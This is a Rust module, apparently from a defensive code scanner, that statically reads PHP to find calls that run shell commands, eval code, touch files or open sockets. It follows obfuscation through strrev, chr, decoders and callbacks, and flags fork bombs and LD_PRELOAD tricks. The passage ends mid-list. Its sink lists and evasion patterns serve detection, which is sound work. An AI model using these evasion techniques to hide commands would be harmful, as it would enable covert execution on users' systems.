//! PHP (code without `<?php`, as `php -r` takes it): the calls that run commands, delete,
//! read, write, fetch or run code, with the constant values of their arguments (quoted
//! strings and their interpolation, heredocs, `.`, `implode`, `strrev`, `chr`,
//! `str_replace`, `sprintf`, `getenv('HOME')`, `$_SERVER['HOME']`), functions named by a
//! string (`$f(...)`, `call_user_func`, callbacks) and names bound once.

use tree_sitter::{Node, Tree};

use super::Effect;
use super::scope::{Cx, Names, Slot, Val};
use super::tree::{MAX_NESTING, Source};

/// What an expression is, as far as the reader follows it.
#[derive(Debug, Clone)]
enum Obj {
    Val(Val),
    /// An array without keys (an argument vector, parts to implode).
    Array(Vec<Val>),
    /// A closure or arrow function: its body is walked where it is written.
    Closure,
    /// An object that calls a named function (`new ReflectionFunction('system')`).
    Func(String),
}

impl Obj {
    fn val(self) -> Val {
        match self {
            Obj::Val(v) => v,
            _ => Val::Unknown,
        }
    }
}

/// A call's argument values; past the end they are not known.
struct Args<'t> {
    nodes: Vec<Node<'t>>,
    vals: Vec<Obj>,
}

impl Args<'_> {
    fn get(&self, n: usize) -> Obj {
        self.vals.get(n).cloned().unwrap_or(Obj::Val(Val::Unknown))
    }

    fn val(&self, n: usize) -> Val {
        self.get(n).val()
    }

    fn count(&self) -> usize {
        self.nodes.len().max(self.vals.len())
    }

    fn values<'x>(vals: Vec<Val>) -> Args<'x> {
        Args {
            nodes: Vec::new(),
            vals: vals.into_iter().map(Obj::Val).collect(),
        }
    }
}

/// Reads PHP code.
pub(super) fn read(cx: &mut Cx, tree: &Tree, src: &Source<'_>) {
    cx.allow(src.text.len());
    let root = tree.root_node();
    let mut php = Php {
        cx,
        src,
        names: Names::default(),
        wild: false,
        loops: 0,
        calls: 0,
    };
    php.bind_all(root, 0);
    php.walk(root, 0);
}

struct Php<'a, 'c, 't> {
    cx: &'c mut Cx,
    src: &'a Source<'a>,
    names: Names<'t>,
    /// The code sets variables by computed names (`extract`, `$$x = ...`): none is known.
    wild: bool,
    loops: usize,
    /// Calls made through callbacks, being followed (`call_user_func('call_user_func', ...)`).
    calls: usize,
}

const COMPUTED_NAME: &str = "the code calls a function whose name is computed at run time";

impl<'a, 'c, 't> Php<'a, 'c, 't> {
    fn text(&self, node: Node<'_>) -> &'a str {
        self.src.of(node)
    }

    fn line(&self, node: Node<'_>) -> usize {
        self.src.line(node)
    }

    /// The name of a `$variable` (without the `$`), if it is one.
    fn var(&self, node: Node<'_>) -> Option<&'a str> {
        (node.kind() == "variable_name").then(|| self.text(node).trim_start_matches('$'))
    }

    /// Gathers the names the code binds (see [`Names`]).
    fn bind_all(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING || !self.cx.step(self.line(node)) {
            return;
        }
        match node.kind() {
            "assignment_expression" => {
                let left = node.child_by_field_name("left");
                let mut value = node.child_by_field_name("right");
                // `$a = $b = value`: the inner assignment is bound when the walk reaches it.
                while let Some(v) = value.filter(|v| v.kind() == "assignment_expression") {
                    value = v.child_by_field_name("right");
                }
                match (left, value) {
                    (Some(l), Some(v)) if l.kind() == "variable_name" => {
                        let name = format!("${}", self.text(l).trim_start_matches('$'));
                        self.names.bind(&name, Slot::Expr(v));
                    }
                    (Some(l), _) => self.forget_target(l),
                    _ => {}
                }
            }
            "reference_assignment_expression" | "augmented_assignment_expression" => {
                self.forget_target_field(node, "left");
                self.forget_target_field(node, "right");
            }
            "update_expression" => self.forget_target_field(node, "argument"),
            "foreach_statement" => {
                let mut c = node.walk();
                let header: Vec<Node<'t>> = node.named_children(&mut c).collect();
                let body = node.child_by_field_name("body");
                // `foreach ($a as &$v)` changes `$a` too.
                let by_ref = header
                    .iter()
                    .any(|h| Some(*h) != body && self.text(*h).contains('&'));
                for (n, part) in header.iter().enumerate() {
                    if Some(*part) != body && (n > 0 || by_ref) {
                        self.forget_vars(*part, 0);
                    }
                }
            }
            "formal_parameters"
            | "anonymous_function_use_clause"
            | "global_declaration"
            | "function_static_declaration"
            | "catch_clause"
            | "list_literal" => {
                if node.kind() == "formal_parameters" && self.text(node).contains('&') {
                    self.wild = true;
                }
                self.forget_vars(node, 0);
            }
            "const_element" => {
                let mut c = node.walk();
                let parts: Vec<Node<'t>> = node.named_children(&mut c).collect();
                if let [name, value] = parts.as_slice() {
                    let name = format!("::{}", self.text(*name));
                    self.names.bind(&name, Slot::Expr(*value));
                }
            }
            "function_call_expression" => self.bind_call(node),
            _ => {}
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.bind_all(child, depth + 1);
        }
    }

    /// `define('X', v)`, and the built-in calls that set variables passed to them.
    fn bind_call(&mut self, node: Node<'t>) {
        let Some(f) = node.child_by_field_name("function") else {
            return;
        };
        let name = function_name(self.text(f));
        let args = self.arg_nodes(node);
        let inner = |n: usize| {
            args.get(n)
                .filter(|a| a.child_by_field_name("name").is_none())
                .and_then(|a| a.named_child(0))
        };
        match name.as_str() {
            "define" => match (inner(0), inner(1)) {
                (Some(n), Some(v)) if n.kind() == "string" => {
                    let n = format!("::{}", single_quoted(self, n));
                    self.names.bind(&n, Slot::Expr(v));
                }
                _ => {}
            },
            "extract" | "import_request_variables" => self.wild = true,
            "parse_str" | "mb_parse_str" if args.len() < 2 => self.wild = true,
            _ => {
                if let Some(from) = by_reference(&name) {
                    for a in args.iter().skip(from) {
                        self.forget_vars(*a, 0);
                    }
                }
            }
        }
    }

    fn forget_target_field(&mut self, node: Node<'t>, field: &str) {
        if let Some(n) = node.child_by_field_name(field) {
            self.forget_target(n);
        }
    }

    /// An assignment to something other than a plain variable: the variable under it
    /// (`$a[0] = ...`, `$o->p = ...`) changes; a computed variable name changes any.
    fn forget_target(&mut self, node: Node<'t>) {
        match node.kind() {
            "dynamic_variable_name" => self.wild = true,
            "subscript_expression"
                if node.named_child(0).and_then(|b| self.var(b)) == Some("GLOBALS") =>
            {
                self.wild = true
            }
            _ => self.forget_vars(node, 0),
        }
    }

    /// Every variable under `node` becomes not known.
    fn forget_vars(&mut self, node: Node<'_>, depth: usize) {
        if depth > MAX_NESTING {
            self.wild = true;
            return;
        }
        if let Some(name) = self.var(node) {
            self.names.forget(&format!("${name}"));
            return;
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.forget_vars(child, depth + 1);
        }
    }

    /// Visits every node, reading the effects.
    fn walk(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING {
            self.cx
                .opaque("the code nests too deeply to read", self.line(node));
            return;
        }
        if !self.cx.step(self.line(node)) {
            return;
        }
        let is_loop = matches!(
            node.kind(),
            "for_statement" | "foreach_statement" | "while_statement" | "do_statement"
        );
        self.loops += usize::from(is_loop);
        let line = self.line(node);
        match node.kind() {
            "function_call_expression" => self.call(node),
            "member_call_expression" | "nullsafe_member_call_expression" => self.method(node),
            "scoped_call_expression" => self.static_call(node),
            "object_creation_expression" => {
                let _ = self.eval(node, 0);
            }
            "shell_command_expression" => {
                let cmd = self.interpolated(node, 0);
                self.cx.found(Effect::Shell(cmd), line);
            }
            "include_expression"
            | "include_once_expression"
            | "require_expression"
            | "require_once_expression" => {
                let path = match node.named_child(0) {
                    Some(p) => self.eval(p, 0).val(),
                    None => Val::Unknown,
                };
                self.include(path, line);
            }
            _ => {}
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.walk(child, depth + 1);
        }
        self.loops -= usize::from(is_loop);
    }

    fn arg_nodes(&self, call: Node<'t>) -> Vec<Node<'t>> {
        let mut c = call.walk();
        let list = call.child_by_field_name("arguments").or_else(|| {
            call.named_children(&mut c)
                .find(|n| n.kind() == "arguments")
        });
        let Some(list) = list else {
            return Vec::new();
        };
        let mut c = list.walk();
        list.named_children(&mut c)
            .filter(|a| a.kind() != "comment")
            .collect()
    }

    /// The argument values of `call`; from a named (`f(x: 1)`) or spread (`...$a`)
    /// argument on, values are not known.
    fn args(&mut self, call: Node<'t>) -> Args<'t> {
        let nodes = self.arg_nodes(call);
        let mut vals = Vec::new();
        for a in &nodes {
            let inner = a.named_child(0);
            if a.child_by_field_name("name").is_some()
                || inner.is_some_and(|i| i.kind() == "variadic_unpacking")
            {
                break;
            }
            vals.push(match inner {
                Some(i) => self.eval(i, 0),
                None => Obj::Val(Val::Unknown),
            });
        }
        Args { nodes, vals }
    }

    fn call(&mut self, node: Node<'t>) {
        let line = self.line(node);
        let Some(f) = node.child_by_field_name("function") else {
            return;
        };
        let name = match f.kind() {
            "name" | "qualified_name" => function_name(self.text(f)),
            _ => match self.eval(f, 0) {
                Obj::Val(Val::Known(s)) => function_name(&s),
                Obj::Func(n) => n,
                Obj::Closure | Obj::Array(_) => return,
                Obj::Val(_) => return self.cx.opaque(COMPUTED_NAME, line),
            },
        };
        if !is_sink(&name) {
            return;
        }
        let args = self.args(node);
        self.apply(&name, &args, line);
    }

    /// `$o->m(...)`: a computed method name is not followed; a reflected function is.
    fn method(&mut self, node: Node<'t>) {
        let line = self.line(node);
        let method = match node.child_by_field_name("name") {
            Some(n) if n.kind() == "name" => self.text(n).to_ascii_lowercase(),
            Some(n) => match self.eval(n, 0).val() {
                Val::Known(m) => m.to_ascii_lowercase(),
                _ => {
                    return self.cx.opaque(
                        "the code calls a method whose name is computed at run time",
                        line,
                    );
                }
            },
            None => return,
        };
        let Some(object) = node.child_by_field_name("object") else {
            return;
        };
        if let Obj::Func(f) = self.eval(object, 0) {
            let args = self.args(node);
            match method.as_str() {
                "invoke" | "__invoke" | "call" => self.apply(&f, &args, line),
                "invokeargs" => {
                    let args = spread(args.get(0));
                    self.apply(&f, &args, line);
                }
                _ => {}
            }
        }
    }

    fn static_call(&mut self, node: Node<'t>) {
        let line = self.line(node);
        let scope = node.child_by_field_name("scope").map(|s| self.text(s));
        let name = node.child_by_field_name("name");
        if name.is_some_and(|n| n.kind() != "name") {
            return self.cx.opaque(
                "the code calls a method whose name is computed at run time",
                line,
            );
        }
        let name = name
            .map(|n| self.text(n).to_ascii_lowercase())
            .unwrap_or_default();
        if scope.is_some_and(|s| function_name(s) == "ffi") && name != "string" {
            self.cx.opaque("the code calls native code directly", line);
        }
    }

    /// Calls the function a callback names, with `args`.
    fn callback(&mut self, cb: Obj, args: &Args<'t>, line: usize) {
        match cb {
            Obj::Val(Val::Known(s)) if s.is_empty() || s.contains("::") => {}
            Obj::Val(Val::Known(s)) => self.apply(&function_name(&s), args, line),
            Obj::Func(f) => self.apply(&f, args, line),
            Obj::Closure | Obj::Array(_) => {}
            Obj::Val(_) => self.cx.opaque(COMPUTED_NAME, line),
        }
    }

    /// The effect of calling function `name` (lower case, no namespace).
    fn apply(&mut self, name: &str, a: &Args<'t>, line: usize) {
        if self.calls > 8 {
            return self.cx.opaque(COMPUTED_NAME, line);
        }
        self.calls += 1;
        self.apply_inner(name, a, line);
        self.calls -= 1;
    }

    fn apply_inner(&mut self, name: &str, a: &Args<'t>, line: usize) {
        let rest = |from: usize| Args {
            nodes: Vec::new(),
            vals: a.vals.iter().skip(from).cloned().collect(),
        };
        match name {
            "system" | "exec" | "shell_exec" | "passthru" | "popen" => {
                self.cx.found(Effect::Shell(a.val(0)), line)
            }
            "proc_open" => match a.get(0) {
                Obj::Array(argv) => self.cx.found(Effect::Exec(argv), line),
                other => self.cx.found(Effect::Shell(other.val()), line),
            },
            "pcntl_exec" => {
                let mut argv = vec![a.val(0)];
                match a.get(1) {
                    Obj::Array(items) => argv.extend(items),
                    _ if a.nodes.len() < 2 && a.vals.len() == a.nodes.len() => {}
                    _ => argv.push(Val::Unknown),
                }
                self.cx.found(Effect::Exec(argv), line);
            }
            "eval" => self.cx.eval(a.val(0), line),
            // PHP 7 ran a string given to `assert`; a condition is not code.
            "assert" => match a.val(0) {
                v @ (Val::Known(_) | Val::Fetched) => self.cx.eval(expression(v), line),
                Val::Unknown => {}
            },
            "create_function" => self.cx.eval(a.val(1), line),
            "preg_replace" | "preg_filter" => {
                let patterns = match a.get(0) {
                    Obj::Array(p) => p,
                    other => vec![other.val()],
                };
                if patterns.iter().any(|p| p.text().is_some_and(evaluates)) {
                    self.cx.eval(expression(a.val(1)), line);
                }
            }
            "unlink" => self.cx.command("rm", vec![a.val(0)], line),
            "rmdir" => self.cx.command("rmdir", vec![a.val(0)], line),
            "rename" => self.cx.command("mv", vec![a.val(0), a.val(1)], line),
            "copy" => match resource(a.val(0)) {
                Res::Path(from) => self.cx.command("cp", vec![from, a.val(1)], line),
                from => {
                    self.read(from, line);
                    self.write(resource(a.val(1)), line);
                }
            },
            "chmod" => self
                .cx
                .command("chmod", vec![octal(a.val(1)), a.val(0)], line),
            "chown" | "lchown" | "chgrp" | "lchgrp" => {
                self.cx.command("chown", vec![Val::Unknown, a.val(0)], line)
            }
            "symlink" => self
                .cx
                .command("ln", vec![Val::known("-s"), a.val(0), a.val(1)], line),
            "link" => self.cx.command("ln", vec![a.val(0), a.val(1)], line),
            "file_put_contents" | "touch" => self.write(resource(a.val(0)), line),
            "fopen" => self.open(resource(a.val(0)), a.val(1), line),
            "file_get_contents"
            | "file"
            | "readfile"
            | "highlight_file"
            | "show_source"
            | "php_strip_whitespace"
            | "parse_ini_file"
            | "simplexml_load_file"
            | "get_headers"
            | "get_meta_tags"
            | "md5_file"
            | "sha1_file" => self.read(resource(a.val(0)), line),
            "curl_init" if a.count() > 0 => self.cx.command("curl", vec![a.val(0)], line),
            "curl_setopt"
                if a.nodes
                    .get(1)
                    .is_some_and(|o| self.text(*o).ends_with("CURLOPT_URL")) =>
            {
                self.cx.command("curl", vec![a.val(2)], line);
            }
            "curl_setopt_array" => self.curl_options(a, line),
            "fsockopen" | "pfsockopen" => {
                let url = tcp(a.val(0), a.val(1));
                self.cx.command("curl", vec![url], line);
            }
            "socket_connect" => {
                let url = tcp(a.val(1), a.val(2));
                self.cx.command("curl", vec![url], line);
            }
            "stream_socket_client" => self.cx.command("curl", vec![a.val(0)], line),
            "pcntl_fork" if self.loops > 0 => self
                .cx
                .opaque("the code forks in a loop (a fork bomb)", line),
            "dl" => self.cx.opaque("the code calls native code directly", line),
            // `LD_PRELOAD` loads a library into the next program run (`mail()`).
            "putenv" if a.val(0).text().is_none_or(|v| v.starts_with("LD_")) => {
                self.cx.opaque("the code calls native code directly", line);
            }
            "call_user_func" | "register_shutdown_function" | "forward_static_call" => {
                self.callback(a.get(0), &rest(1), line)
            }
            "call_user_func_array" | "forward_static_call_array" => {
                self.callback(a.get(0), &spread(a.get(1)), line)
            }
            "array_map" => match a.get(1) {
                Obj::Array(items) if !items.is_empty() => {
                    for item in items {
                        self.callback(a.get(0), &Args::values(vec![item]), line);
                    }
                }
                _ => self.callback(a.get(0), &Args::values(vec![Val::Unknown]), line),
            },
            "array_filter"
            | "array_walk"
            | "array_walk_recursive"
            | "array_reduce"
            | "usort"
            | "uasort"
            | "uksort"
            | "iterator_apply"
            | "preg_replace_callback"
                if a.count() > 1 =>
            {
                self.callback(a.get(1), &Args::values(vec![Val::Unknown]), line);
            }
            "ob_start"
            | "set_error_handler"
            | "set_exception_handler"
            | "spl_autoload_register"
            | "register_tick_function"
            | "header_register_callback"
                if a.count() > 0 =>
            {
                self.callback(a.get(0), &Args::values(vec![Val::Unknown]), line);
            }
            _ => {}
        }
    }

    /// `curl_setopt_array($c, [CURLOPT_URL => $url])`.
    fn curl_options(&mut self, a: &Args<'t>, line: usize) {
        let Some(array) = a.nodes.get(1).and_then(|n| n.named_child(0)) else {
            return;
        };
        if array.kind() != "array_creation_expression" {
            return;
        }
        let mut c = array.walk();
        let items: Vec<Node<'t>> = array.named_children(&mut c).collect();
        for item in items {
            if let (Some(k), Some(v)) = (item.named_child(0), item.named_child(1))
                && self.text(k).ends_with("CURLOPT_URL")
            {
                let url = self.eval(v, 0).val();
                self.cx.command("curl", vec![url], line);
            }
        }
    }

    fn include(&mut self, path: Val, line: usize) {
        match resource(path) {
            Res::Path(Val::Unknown) => self.cx.opaque(
                "the code includes a file whose name is computed at run time",
                line,
            ),
            Res::Path(p) => self.cx.command("cat", vec![p], line),
            Res::Url(url) => {
                self.cx.command("curl", vec![url], line);
                self.cx.eval(Val::Fetched, line);
            }
            Res::Shell(cmd) => {
                self.cx.found(Effect::Shell(cmd), line);
                self.cx.eval(Val::Fetched, line);
            }
            Res::Stream => self.cx.eval(Val::Unknown, line),
        }
    }

    fn read(&mut self, res: Res, line: usize) {
        match res {
            Res::Path(p) => self.cx.command("cat", vec![p], line),
            Res::Url(u) => self.cx.command("curl", vec![u], line),
            Res::Shell(c) => self.cx.found(Effect::Shell(c), line),
            Res::Stream => {}
        }
    }

    fn write(&mut self, res: Res, line: usize) {
        match res {
            Res::Path(p) => self.cx.command("tee", vec![p], line),
            other => self.read(other, line),
        }
    }

    fn open(&mut self, res: Res, mode: Val, line: usize) {
        let Res::Path(path) = res else {
            return self.read(res, line);
        };
        let mode = mode.text().unwrap_or("r+").to_owned();
        if mode.contains(['r', '+']) {
            self.cx.command("cat", vec![path.clone()], line);
        }
        if mode.contains(['w', 'a', 'x', 'c', '+']) {
            self.cx.command("tee", vec![path], line);
        }
    }

    /// What `node` evaluates to.
    fn eval(&mut self, node: Node<'t>, depth: usize) -> Obj {
        if depth > MAX_NESTING || !self.cx.step(self.line(node)) {
            return Obj::Val(Val::Unknown);
        }
        let known = |s: &str| Obj::Val(Val::known(s));
        match node.kind() {
            "string" => Obj::Val(Val::Known(single_quoted(self, node))),
            "encapsed_string" | "heredoc" | "shell_command_expression" => {
                Obj::Val(self.interpolated(node, depth))
            }
            "nowdoc" => {
                let body = node.child_by_field_name("value");
                let at_start = body.is_some_and(|b| b.start_position().column == 0);
                let text = body.map_or("", |b| self.text(b));
                Obj::Val(Val::Known(dedent(text, indent_of(node), at_start)))
            }
            "integer" => {
                Obj::Val(int(self.text(node)).map_or(Val::Unknown, |n| Val::Known(n.to_string())))
            }
            "float" => known(self.text(node)),
            "boolean" => known(if self.text(node).eq_ignore_ascii_case("true") {
                "1"
            } else {
                ""
            }),
            "null" => known(""),
            "parenthesized_expression" | "error_suppression_expression" => {
                match node.named_child(0) {
                    Some(inner) => self.eval(inner, depth + 1),
                    None => Obj::Val(Val::Unknown),
                }
            }
            "assignment_expression" => match node.child_by_field_name("right") {
                Some(r) => self.eval(r, depth + 1),
                None => Obj::Val(Val::Unknown),
            },
            "cast_expression" => match (
                node.child_by_field_name("type"),
                node.child_by_field_name("value"),
            ) {
                (Some(t), Some(v)) if self.text(t).eq_ignore_ascii_case("string") => {
                    Obj::Val(self.eval(v, depth + 1).val())
                }
                _ => Obj::Val(Val::Unknown),
            },
            "variable_name" => {
                let name = self.text(node).trim_start_matches('$').to_owned();
                self.name(&format!("${name}"), depth)
            }
            "name" => match self.text(node) {
                "__DIR__" => known("."),
                "PHP_EOL" => known("\n"),
                "DIRECTORY_SEPARATOR" => known("/"),
                c => self.name(&format!("::{c}"), depth),
            },
            "subscript_expression" => self.subscript(node, depth),
            "binary_expression" => {
                let (Some(l), Some(op), Some(r)) = (
                    node.child_by_field_name("left"),
                    node.child_by_field_name("operator"),
                    node.child_by_field_name("right"),
                ) else {
                    return Obj::Val(Val::Unknown);
                };
                if self.text(op) != "." {
                    return Obj::Val(Val::Unknown);
                }
                let l = self.eval(l, depth + 1).val();
                Obj::Val(l.concat(self.eval(r, depth + 1).val()))
            }
            "conditional_expression" => {
                let body = node
                    .child_by_field_name("body")
                    .or(node.child_by_field_name("condition"));
                match (body, node.child_by_field_name("alternative")) {
                    (Some(a), Some(b)) => {
                        let (a, b) = (self.eval(a, depth + 1).val(), self.eval(b, depth + 1).val());
                        Obj::Val(if a == b { a } else { Val::Unknown })
                    }
                    _ => Obj::Val(Val::Unknown),
                }
            }
            "anonymous_function" | "arrow_function" => Obj::Closure,
            "array_creation_expression" => {
                let mut items = Vec::new();
                let mut c = node.walk();
                let children: Vec<Node<'t>> = node.named_children(&mut c).collect();
                for item in children {
                    let parts = item.named_child_count();
                    let first = item.named_child(0);
                    if parts != 1 || first.is_some_and(|f| f.kind() == "variadic_unpacking") {
                        return Obj::Val(Val::Unknown);
                    }
                    items.push(first.map_or(Val::Unknown, |f| self.eval(f, depth + 1).val()));
                }
                Obj::Array(items)
            }
            "function_call_expression" => self.value_of_call(node, depth),
            "object_creation_expression" | "scoped_call_expression" => {
                let class = node
                    .child_by_field_name("scope")
                    .or(node.named_child(0))
                    .map(|c| function_name(self.text(c)))
                    .unwrap_or_default();
                let method = node
                    .child_by_field_name("name")
                    .map(|n| self.text(n).to_ascii_lowercase());
                let reflects = match node.kind() {
                    "object_creation_expression" => class == "reflectionfunction",
                    _ => class == "closure" && method.as_deref() == Some("fromcallable"),
                };
                if !reflects {
                    return Obj::Val(Val::Unknown);
                }
                let args = self.args(node);
                match args.get(0) {
                    Obj::Val(Val::Known(f)) => Obj::Func(function_name(&f)),
                    Obj::Closure => Obj::Closure,
                    _ => {
                        self.cx.opaque(COMPUTED_NAME, self.line(node));
                        Obj::Val(Val::Unknown)
                    }
                }
            }
            _ => Obj::Val(Val::Unknown),
        }
    }

    fn name(&mut self, key: &str, depth: usize) -> Obj {
        if self.wild && key.starts_with('$') {
            return Obj::Val(Val::Unknown);
        }
        match self.names.get(key).cloned() {
            Some(Slot::Expr(value)) if self.names.enter(key) => {
                let out = self.eval(value, depth + 1);
                self.names.leave();
                out
            }
            _ => Obj::Val(Val::Unknown),
        }
    }

    fn subscript(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let (Some(base), Some(key)) = (node.named_child(0), node.named_child(1)) else {
            return Obj::Val(Val::Unknown);
        };
        let key = self.eval(key, depth + 1).val();
        match (self.var(base), key) {
            (Some("_SERVER" | "_ENV"), Val::Known(k)) => return Obj::Val(env(&k)),
            (Some("GLOBALS"), Val::Known(k)) => return self.name(&format!("${k}"), depth),
            (_, Val::Known(k)) => {
                if let (Obj::Array(items), Ok(n)) = (self.eval(base, depth + 1), k.parse::<usize>())
                {
                    return Obj::Val(items.get(n).cloned().unwrap_or(Val::Unknown));
                }
            }
            _ => {}
        }
        Obj::Val(Val::Unknown)
    }

    /// A string with `$var` and `{$expr}` parts, escapes decoded; a heredoc's indentation
    /// removed.
    fn interpolated(&mut self, node: Node<'t>, depth: usize) -> Val {
        let (parts, indent) = match node.child_by_field_name("value") {
            Some(body) if node.kind() == "heredoc" => (body, indent_of(node)),
            _ => (node, 0),
        };
        let mut out = Val::known("");
        let mut c = parts.walk();
        let children: Vec<Node<'t>> = parts.named_children(&mut c).collect();
        for part in children {
            let v = match part.kind() {
                "string_content" => {
                    let at_start = part.start_position().column == 0;
                    Val::Known(dedent(self.text(part), indent, at_start))
                }
                "escape_sequence" => Val::Known(double_escape(self.text(part))),
                _ => self.eval(part, depth + 1).val(),
            };
            out = out.concat(v);
        }
        out
    }

    /// The value a call returns, for the calls that compute strings.
    fn value_of_call(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let Some(f) = node.child_by_field_name("function") else {
            return Obj::Val(Val::Unknown);
        };
        let name = match f.kind() {
            "name" | "qualified_name" => function_name(self.text(f)),
            _ => match self.eval(f, depth + 1).val() {
                Val::Known(s) => function_name(&s),
                _ => return Obj::Val(Val::Unknown),
            },
        };
        if !is_value_function(&name) {
            return Obj::Val(Val::Unknown);
        }
        let args = self.args(node);
        value_of(&name, &args)
    }
}

/// The value function `name` returns for `a`.
fn value_of(name: &str, a: &Args<'_>) -> Obj {
    let fetched = a.vals.iter().any(|v| matches!(v, Obj::Val(Val::Fetched)));
    if is_decoder(name) || fetched {
        return Obj::Val(Val::Fetched);
    }
    let text = |n: usize| a.val(n).text().map(str::to_owned);
    let known = |t: Option<String>| Obj::Val(t.map_or(Val::Unknown, Val::Known));
    match name {
        "implode" | "join" => {
            let (sep, items) = match (a.get(0), a.get(1)) {
                (Obj::Array(items), sep) | (sep, Obj::Array(items)) => (sep.val(), items),
                _ => return Obj::Val(Val::Unknown),
            };
            let sep = if a.vals.len() == 1 {
                Val::known("")
            } else {
                sep
            };
            let texts: Option<Vec<&str>> = items.iter().map(Val::text).collect();
            known(texts.zip(sep.text()).map(|(t, s)| t.join(s)))
        }
        "strrev" => known(
            text(0)
                .filter(|s| s.is_ascii())
                .map(|s| s.chars().rev().collect()),
        ),
        "chr" => known(text(0).and_then(|n| n.parse::<i64>().ok()).and_then(|n| {
            let b = u8::try_from(n.rem_euclid(256)).ok()?;
            b.is_ascii().then(|| char::from(b).to_string())
        })),
        "str_replace" => {
            let subject = text(2);
            let pairs: Vec<(Val, Val)> = match (a.get(0), a.get(1)) {
                (Obj::Array(s), Obj::Array(r)) => s
                    .into_iter()
                    .enumerate()
                    .map(|(n, s)| (s, r.get(n).cloned().unwrap_or(Val::known(""))))
                    .collect(),
                (Obj::Array(s), r) => {
                    let r = r.val();
                    s.into_iter().map(|s| (s, r.clone())).collect()
                }
                (s, r) => vec![(s.val(), r.val())],
            };
            let mut out = subject;
            for (s, r) in pairs {
                out = match (out, s.text(), r.text()) {
                    (Some(o), Some(""), Some(_)) => Some(o),
                    (Some(o), Some(s), Some(r)) => Some(o.replace(s, r)),
                    _ => None,
                };
            }
            known(out)
        }
        "sprintf" | "vsprintf" => {
            let items = match (name, a.get(1)) {
                ("vsprintf", Obj::Array(items)) => items,
                ("vsprintf", _) => return Obj::Val(Val::Unknown),
                _ => a.vals.iter().skip(1).cloned().map(Obj::val).collect(),
            };
            known(text(0).and_then(|f| sprintf(&f, &items)))
        }
        "getenv" => Obj::Val(text(0).map_or(Val::Unknown, |k| env(&k))),
        "strtolower" => known(text(0).map(|s| s.to_ascii_lowercase())),
        "strtoupper" => known(text(0).map(|s| s.to_ascii_uppercase())),
        "trim" | "ltrim" | "rtrim" if a.vals.len() == 1 => known(text(0).map(|s| {
            let ws: &[char] = &[' ', '\t', '\n', '\r', '\0', '\x0b'];
            match name {
                "trim" => s.trim_matches(ws).to_owned(),
                "ltrim" => s.trim_start_matches(ws).to_owned(),
                _ => s.trim_end_matches(ws).to_owned(),
            }
        })),
        "strval" | "realpath" => Obj::Val(a.val(0)),
        "getcwd" => Obj::Val(Val::known(".")),
        "str_repeat" => known(
            text(0)
                .zip(text(1).and_then(|n| n.parse::<usize>().ok()))
                .and_then(|(s, n)| (s.len().saturating_mul(n) <= 4096).then(|| s.repeat(n))),
        ),
        "escapeshellarg" => known(text(0).map(|s| format!("'{}'", s.replace('\'', "'\\''")))),
        "str_split" => match text(0) {
            Some(s) if a.vals.len() == 1 => {
                Obj::Array(s.chars().map(|c| Val::Known(c.into())).collect())
            }
            _ => Obj::Val(Val::Unknown),
        },
        "explode" => match (text(0), text(1)) {
            (Some(sep), Some(s)) if !sep.is_empty() && a.vals.len() == 2 => {
                Obj::Array(s.split(sep.as_str()).map(Val::known).collect())
            }
            _ => Obj::Val(Val::Unknown),
        },
        "array_reverse" => match a.get(0) {
            Obj::Array(mut items) => {
                items.reverse();
                Obj::Array(items)
            }
            _ => Obj::Val(Val::Unknown),
        },
        // `array_map('chr', [114, 109])`
        "array_map" => match (a.val(0), a.get(1)) {
            (Val::Known(f), Obj::Array(items))
                if a.vals.len() == 2 && is_value_function(&f) && f != "array_map" =>
            {
                let mut out = Vec::new();
                for item in items {
                    out.push(value_of(&f, &Args::values(vec![item])).val());
                }
                Obj::Array(out)
            }
            _ => Obj::Val(Val::Unknown),
        },
        "file_get_contents" | "file" => match resource(a.val(0)) {
            Res::Url(_) | Res::Shell(_) => Obj::Val(Val::Fetched),
            _ => Obj::Val(Val::Unknown),
        },
        "curl_exec" | "stream_get_contents" | "fgets" | "fread" | "socket_read" => {
            Obj::Val(Val::Fetched)
        }
        // Its code is read where it is created.
        "create_function" => Obj::Closure,
        _ => Obj::Val(Val::Unknown),
    }
}

/// The functions whose value the reader computes.
fn is_value_function(name: &str) -> bool {
    is_decoder(name)
        || matches!(
            name,
            "implode"
                | "join"
                | "strrev"
                | "chr"
                | "str_replace"
                | "sprintf"
                | "vsprintf"
                | "getenv"
                | "strtolower"
                | "strtoupper"
                | "trim"
                | "ltrim"
                | "rtrim"
                | "strval"
                | "realpath"
                | "getcwd"
                | "str_repeat"
                | "escapeshellarg"
                | "str_split"
                | "explode"
                | "array_reverse"
                | "array_map"
                | "file_get_contents"
                | "file"
                | "curl_exec"
                | "stream_get_contents"
                | "fgets"
                | "fread"
                | "socket_read"
                | "create_function"
        )
}

/// Calls that decode data: what they return was hidden.
fn is_decoder(name: &str) -> bool {
    matches!(
        name,
        "base64_decode"
            | "hex2bin"
            | "gzinflate"
            | "gzuncompress"
            | "gzdecode"
            | "zlib_decode"
            | "bzdecompress"
            | "str_rot13"
            | "convert_uudecode"
            | "urldecode"
            | "rawurldecode"
            | "pack"
            | "quoted_printable_decode"
            | "html_entity_decode"
            | "openssl_decrypt"
    )
}

/// The calls [`Php::apply`] reads.
fn is_sink(name: &str) -> bool {
    matches!(
        name,
        "system"
            | "exec"
            | "shell_exec"
            | "passthru"
            | "popen"
            | "proc_open"
            | "pcntl_exec"
            | "eval"
            | "assert"
            | "create_function"
            | "preg_replace"
            | "preg_filter"
            | "unlink"
            | "rmdir"
            | "rename"
            | "copy"
            | "chmod"
            | "chown"
            | "lchown"
            | "chgrp"
            | "lchgrp"
            | "symlink"
            | "link"
            | "file_put_contents"
            | "touch"
            | "fopen"
            | "file_get_contents"
            | "file"
            | "readfile"
            | "highlight_file"
            | "show_source"
            | "php_strip_whitespace"
            | "parse_ini_file"
            | "simplexml_load_file"
            | "get_headers"
            | "get_meta_tags"
            | "md5_file"
            | "sha1_file"
            | "curl_init"
            | "curl_setopt"
            | "curl_setopt_array"
            | "fsockopen"
            | "pfsockopen"
            | "socket_connect"
            | "stream_socket_client"
            | "pcntl_fork"
            | "dl"
            | "putenv"
            | "call_user_func"
            | "register_shutdown_function"
